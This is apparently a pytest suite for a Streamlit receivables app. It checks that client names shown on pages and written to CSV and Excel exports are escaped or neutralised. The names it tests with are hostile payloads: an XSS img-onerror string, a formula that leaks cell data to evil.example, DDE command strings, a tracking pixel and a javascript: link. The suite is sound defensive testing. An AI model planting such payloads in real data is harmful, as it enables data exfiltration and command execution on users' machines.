"""Names from the books are data, never code: a client called `<img src=x onerror=alert(1)>` or
`=HYPERLINK(…)` is shown and exported as those characters. Checked on every page (AppTest), in
the CSV and Excel files, in `report --format csv`, and in a real browser that must fetch nothing
from outside and raise no dialog."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from core.db import read_only
from etl import exports
from etl.batch import Company
from etl.cli import main
from metrics import collections_worklist
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError, expect

from tests.books import write_book
from tests.browser import serving, wait_until_the_script_has_run

ROOT = Path(__file__).resolve().parent.parent
COMPANY = "**Bold MSP** ![logo](http://evil.example/logo.png) :red[alarm]"
NAMES = {
    "C1": "<img src=x onerror=alert(1)>",
    "C2": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "C3": "![pixel](http://evil.example/pixel.png)",
    "C4": "+cmd|' /C calc'!A0",
    "C5": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C6": "-2+3 Tech",
    "C7": "$x^2$ [link](javascript:alert(1))",
}
AS_OF = date(2026, 3, 31)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """Seven overdue clients with hostile names, in a company with a hostile name."""
    company = Company("test", "c1", COMPANY, data_through=AS_OF)
    customers = [{"customer_id": cid, "name": name, "email": f"{cid.lower()}@example.com"} for cid, name in NAMES.items()]
    invoices = [{"invoice_id": f"I{n}", "customer_id": cid, "txn_date": date(2026, 1, n), "due_date": date(2026, 1, 31),
                 "total": 100 * n} for n, cid in enumerate(NAMES, start=1)]
    return write_book(tmp_path_factory.mktemp("hostile") / "hostile.duckdb", customers, invoices, company=company)


def worklist(db) -> "pd.DataFrame":  # noqa: F821
    with read_only(db) as con:
        return collections_worklist(con, AS_OF)


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(hostile_db):
    rows = list(csv.DictReader(io.StringIO(exports.csv_text(worklist(hostile_db)))))
    names = {row["customer_id"]: row["customer"] for row in rows}
    assert names == {
        "C1": "<img src=x onerror=alert(1)>",
        "C2": "'" + NAMES["C2"],
        "C3": NAMES["C3"],
        "C4": "'" + NAMES["C4"],
        "C5": "'" + NAMES["C5"],
        "C6": "'-2+3 Tech",
        "C7": NAMES["C7"],
    }
    assert {row["customer_id"]: row["overdue"] for row in rows}["C7"] == "700.00"  # amounts stay numbers


def test_excel_cells_are_text_never_formulas(hostile_db):
    sheet = openpyxl.load_workbook(io.BytesIO(exports.excel_bytes(worklist(hostile_db), "worklist"))).active
    header = [cell.value for cell in sheet[1]]
    customer, overdue = header.index("customer"), header.index("overdue")
    *rows, totals = list(sheet.iter_rows(min_row=2))
    assert totals[overdue].value == 2800 and totals[0].value == "Total"  # 100 + 200 + … + 700
    assert {row[customer].value for row in rows} == set(NAMES.values())  # as typed: Excel never runs a text cell
    assert {row[customer].data_type for row in rows} == {"s"}
    assert sorted(row[overdue].value for row in rows) == [100, 200, 300, 400, 500, 600, 700]
    assert {row[overdue].number_format for row in rows} == {"#,##0.00"}


def test_report_csv_is_safe_too(hostile_db, capsys):
    assert main(["report", "clients", "--db", str(hostile_db), "--as-of", AS_OF.isoformat(), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(row["customer"] for row in rows if row["customer"].startswith("'")) == sorted(
        "'" + NAMES[cid] for cid in ("C2", "C4", "C5", "C6"))


PAGES = ["app.py", "pages/aging.py", "pages/clients.py", "pages/autopay.py", "pages/forecast.py", "pages/data_sync.py"]
RAW = ("<img", "![", "](http", ":red[", "**Bold", "$x^2$", "[link]")


@pytest.mark.parametrize("page", PAGES)
def test_every_page_shows_names_as_characters(page, hostile_db, monkeypatch):
    monkeypatch.setenv("LEDGERLIGHT_DB", str(hostile_db))
    st.cache_data.clear()
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    app = (app.switch_page(page) if page != "app.py" else app).run()
    assert not app.exception, app.exception
    texts = [element.value for kind in ("title", "header", "subheader", "markdown", "caption", "error", "warning",
                                        "info", "success") for element in getattr(app, kind)]
    texts += [element.label for element in app.metric] + [element.help or "" for element in app.metric]
    unescaped = [text for text in texts if any(raw in str(text) for raw in RAW)]
    assert unescaped == []
    if page == "app.py":
        assert any(r"\*\*Bold MSP\*\* \!\[logo\]\(http\:" in text for text in texts)  # shown, escaped


def download_the_csv(page):
    """The worklist's CSV, as a person gets it. On a machine busy with the rest of the suite,
    Streamlit's deferred download has left a click unanswered: the button stays disabled and
    nothing reaches the server's log (4 of 11 full runs today). A person reloads the page and
    clicks again, and so does this."""
    for attempt in (1, 2):
        try:
            with page.expect_download(timeout=30_000) as download:
                page.get_by_role("button", name="Download CSV").click(timeout=30_000)
            return download.value
        except PlaywrightTimeoutError:
            if attempt == 2:
                raise
            page.reload()
            page.get_by_role("button", name="Download CSV").wait_for(timeout=60_000)
            wait_until_the_script_has_run(page)


def test_a_browser_shows_the_names_and_fetches_nothing_from_outside(hostile_db, browser, tmp_path):
    with serving(hostile_db) as url:
        page = browser.new_page(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
        outside, dialogs = [], []
        page.on("request", lambda request: None if request.url.startswith(url) else outside.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in ("", "/clients", "/aging"):
            page.goto(url + path)
            page.locator('[data-testid="stMetricValue"]').first.wait_for(timeout=60_000)
            wait_until_the_script_has_run(page)
            expect(page.locator('[data-testid="stException"]')).to_have_count(0)
        page.goto(url)
        wait_until_the_script_has_run(page)
        expect(page.get_by_text(COMPANY, exact=False)).to_be_visible()  # the characters, not bold text and an image
        page.goto(url + "/clients")
        page.get_by_role("button", name="Download CSV").wait_for(timeout=60_000)
        wait_until_the_script_has_run(page)  # a click during the run is lost when the run redraws the button
        saved = tmp_path / "worklist.csv"
        download_the_csv(page).save_as(saved)
        page.close()
    assert sorted(set(outside)) == [] and dialogs == []
    names = {row["customer"] for row in csv.DictReader(saved.open())}
    assert {"'" + NAMES["C2"], "'" + NAMES["C4"], NAMES["C1"]} <= names
